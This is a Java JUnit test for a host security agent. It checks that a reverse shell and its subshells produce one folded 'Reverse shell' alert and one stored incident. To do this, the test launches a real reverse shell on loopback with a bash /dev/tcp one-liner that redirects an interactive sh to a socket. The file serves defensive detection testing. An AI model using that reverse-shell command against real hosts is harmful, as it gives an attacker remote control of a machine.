package dev.vigil.cli;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.TimeUnit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A real reverse shell on loopback whose commands start subshells, each with the socket as its
 * standard input: one "Reverse shell" alert, and the repeats reported as one count naming it.
 */
class FoldingLiveTest {
    @Test
    void aReverseShellAndItsSubshellsAreOneAlert() throws Exception {
        java.nio.file.Path data = java.nio.file.Files.createTempDirectory("vigil-data");
        try (AgentProcess agent = AgentProcess.start("--fold", "4", "--data", data.toString());
             ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            int port = listener.getLocalPort();
            Process bash = new ProcessBuilder("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec sh -i <&3 >&3 2>&3").start();
            try (Socket s = listener.accept()) {
                OutputStream out = s.getOutputStream();
                out.write("sh -c true\nsh -c true\n(sh -c true)\nbash -c true\nsh -c 'sh -c true'\nexit\n".getBytes(StandardCharsets.UTF_8));
                out.flush();
                s.getInputStream().readAllBytes();
            }
            assertTrue(bash.waitFor(10, TimeUnit.SECONDS));
            long shell = bash.pid(); // exec keeps the pid: the reverse shell is this process
            JsonNode first = agent.await("Reverse shell", a -> a.get("kind").asText().equals("rule")
                    && a.get("events").get(0).get("pid").asLong() == shell);
            // the window closes at the first event after it: the agent's own activity brings one
            JsonNode folded = agent.await("Reverse shell", a -> a.get("kind").asText().equals("folded")
                    && a.get("folded_into").asText().equals(first.get("id").asText()));
            assertTrue(folded.get("count").asLong() >= 5, folded.toString());
            List<JsonNode> raised = agent.alerts.stream().filter(a -> a.get("rule").asText().equals("Reverse shell")
                    && a.get("kind").asText().equals("rule")).toList();
            assertEquals(1, raised.size(), raised.toString());
            assertEquals(0, agent.stop());
            // the store holds the alert, the fold and one incident that counts them all, and the shell's process row
            try (dev.vigil.store.Store store = dev.vigil.store.Store.open(data);
                 java.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:sqlite:" + store.file())) {
                assertEquals("ok", store.integrityCheck());
                var r = c.createStatement().executeQuery("SELECT i.alert_count, i.title FROM alerts a JOIN incidents i ON a.incident_id = i.id"
                        + " WHERE a.id = '" + first.get("id").asText() + "'");
                assertTrue(r.next(), "the alert is stored with its incident");
                // the other rules this shell set off (interactive shell without a terminal, connection then shell…) are the same incident
                assertTrue(r.getLong(1) >= 1 + folded.get("count").asLong(), "the incident counts the alert and its folded repeats: " + r.getLong(1));
                var n = c.createStatement().executeQuery("SELECT count(DISTINCT incident_id) FROM alerts WHERE kind IN ('rule', 'sequence', 'folded')");
                assertTrue(n.next());
                assertEquals(1, n.getLong(1), "one attack, one incident");
                var p = c.createStatement().executeQuery("SELECT args FROM processes WHERE pid = " + shell + " AND exe LIKE '%sh'");
                assertTrue(p.next(), "the reverse shell's exec is a process row");
                assertTrue(p.getString(1).contains("-i"), p.getString(1));
            }
        }
    }
}
